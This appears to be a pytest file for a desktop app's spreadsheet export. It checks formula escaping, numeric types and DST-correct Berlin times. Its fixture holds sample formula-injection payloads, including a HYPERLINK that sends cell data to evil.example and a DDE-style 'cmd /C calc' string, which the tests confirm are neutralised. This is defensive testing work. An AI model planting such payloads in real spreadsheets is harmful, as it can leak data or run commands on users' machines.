"""The grid as CSV and XLSX: read back with pandas and openpyxl; formula cells escaped,
numbers kept numeric, instants as local wall times in the named zone (DST-correct)."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pandas as pd
import pytest

from mentra_desktop.export.formula_escape import escape_cell, escape_text
from mentra_desktop.export.tabular import export_grid, grid_frame
from mentra_desktop.models.council_summary import CouncilSummary

NOW = datetime(2027, 3, 27, 12, 0, tzinfo=UTC)
BERLIN = ZoneInfo("Europe/Berlin")
HOSTILE = {
    "topic": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "mentee": "+1-555-0100",
    "lead": "-2+3",
    "silent": ("@SUM(1+1)*cmd|' /C calc'!A0", "\tTabbed", "\rReturn"),
}


def _summary(council_id: int, **changes: Any) -> dict[str, Any]:
    values: dict[str, Any] = {
        "id": council_id,
        "topic": f"Council {council_id}",
        "mentee": "Casey Council",
        "status": "collecting",
        "answered": 2,
        "invited": 4,
        # 00:30 UTC is 01:30 CET; 01:30 UTC is 03:30 CEST (Berlin skips 02:00-03:00).
        "deadline": "2027-03-28T00:30:00+00:00",
        "lead": "Lena Petrov",
        "best_slot_id": 7,
        "best_slot_start": "2027-03-28T01:30:00+00:00",
        "best_attendees": 3,
        "minimum": 3,
        "decision": "waiting",
        "feasible": True,
        "lead_unavailable": False,
        "below_minimum": False,
        "silent": (),
        "version": 1,
        "change_seq": council_id,
    }
    values.update(changes)
    return CouncilSummary(**values).to_dict()


def test_escape_rules() -> None:
    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert escape_text(text) == "'" + text
    for text in ("Plain", "", " =1", "a=b", "'quoted"):
        assert escape_text(text) == text
    assert escape_cell(-3) == -3 and escape_cell(-2.5) == -2.5 and escape_cell(None) is None


@pytest.fixture
def rows() -> list[dict[str, Any]]:
    hostile = _summary(
        1,
        topic=HOSTILE["topic"],
        mentee=HOSTILE["mentee"],
        lead=HOSTILE["lead"],
        silent=HOSTILE["silent"],
        status="needs_alternatives",
        decision="needs_alternatives",
        feasible=False,
        below_minimum=True,
        best_slot_id=None,
        best_slot_start=None,
        best_attendees=0,
    )
    confirmed = _summary(
        2,
        status="confirmed",
        deadline=None,
        decision=None,
        best_slot_start="2027-01-10T09:00:00+00:00",
    )
    return [hostile, confirmed, _summary(3)]


def test_csv_reads_back_escaped_and_local(rows: list[dict[str, Any]], tmp_path: Path) -> None:
    out = tmp_path / "grid.csv"
    assert export_grid(rows, out, "csv", BERLIN, NOW) == 3
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM for spreadsheets
    with open(out, encoding="utf-8-sig", newline="") as fh:
        cells = list(csv.reader(fh))
    header = cells[0]
    assert "Deadline (Europe/Berlin)" in header and "Best slot (Europe/Berlin)" in header
    for row in cells[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    frame = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    first = frame.iloc[0]
    assert first["Topic"] == "'" + HOSTILE["topic"]
    assert first["Mentee"] == "'+1-555-0100"
    assert first["Lead"] == "'-2+3"
    assert first["Silent mentors"] == "'" + ", ".join(HOSTILE["silent"])
    assert "Cannot reach the mentor minimum" in first["Risks"]
    assert list(frame["Deadline (Europe/Berlin)"]) == ["2027-03-28 01:30", "", "2027-03-28 01:30"]
    assert list(frame["Best slot (Europe/Berlin)"]) == ["", "2027-01-10 10:00", "2027-03-28 03:30"]
    assert list(frame["Status"]) == ["Needs alternatives", "Confirmed", "Collecting"]
    numbers = pd.read_csv(out, encoding="utf-8-sig")
    assert numbers["Answered"].tolist() == [2, 2, 2] and numbers["Council"].tolist() == [1, 2, 3]


def test_xlsx_has_no_formulas_numbers_and_local_datetimes(
    rows: list[dict[str, Any]], tmp_path: Path
) -> None:
    out = tmp_path / "grid.xlsx"
    export_grid(rows, out, "xlsx", BERLIN, NOW)
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    assert header[6] == "Deadline (Europe/Berlin)" and header[8] == "Best slot (Europe/Berlin)"
    assert sheet.freeze_panes == "A2"
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # nothing would run
    by_name = {name: i for i, name in enumerate(header)}
    first = [c.value for c in sheet[2]]
    assert first[by_name["Topic"]] == "'" + HOSTILE["topic"]
    assert first[by_name["Lead"]] == "'-2+3"
    assert first[by_name["Council"]] == 1 and isinstance(first[by_name["Answered"]], int)
    third = sheet[4]
    deadline, best = third[6], third[8]
    assert deadline.value == datetime(2027, 3, 28, 1, 30) and deadline.is_date
    assert best.value == datetime(2027, 3, 28, 3, 30)  # after the jump: CEST
    assert deadline.number_format == "yyyy-mm-dd hh:mm"
    assert sheet[3][6].value is None  # a confirmed council without a deadline: empty
    frame = pd.read_excel(out, engine="openpyxl")
    assert frame["Council"].tolist() == [1, 2, 3]
    assert frame["Best slot (Europe/Berlin)"].iloc[1] == pd.Timestamp("2027-01-10 10:00")


def test_genuine_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    frame = grid_frame([_summary(1)], BERLIN, NOW)
    frame["Delta"] = [-3]  # a numeric column, as a future export may carry
    frame["Note"] = ["-3"]  # text that only looks like a number: the writer escapes it
    from mentra_desktop.export.tabular import write_xlsx

    out = tmp_path / "n.xlsx"
    write_xlsx(frame, out)
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    assert sheet[2][header.index("Delta")].value == -3
    assert sheet[2][header.index("Delta")].data_type == "n"
    assert sheet[2][header.index("Note")].value == "'-3"


def test_progress_for_a_large_export_and_zone_from_utc(tmp_path: Path) -> None:
    rows = [_summary(n) for n in range(1, 2501)]
    seen: list[tuple[int, int]] = []
    export_grid(
        rows,
        tmp_path / "big.xlsx",
        "xlsx",
        ZoneInfo("UTC"),
        NOW,
        progress=lambda d, t: seen.append((d, t)),
    )
    assert seen == [(1000, 2500), (2000, 2500), (2500, 2500)]
    frame = pd.read_excel(tmp_path / "big.xlsx", engine="openpyxl")
    assert len(frame) == 2500 and "Deadline (UTC)" in frame.columns
    assert not list(tmp_path.glob(".*.part"))  # the temporary file was moved into place
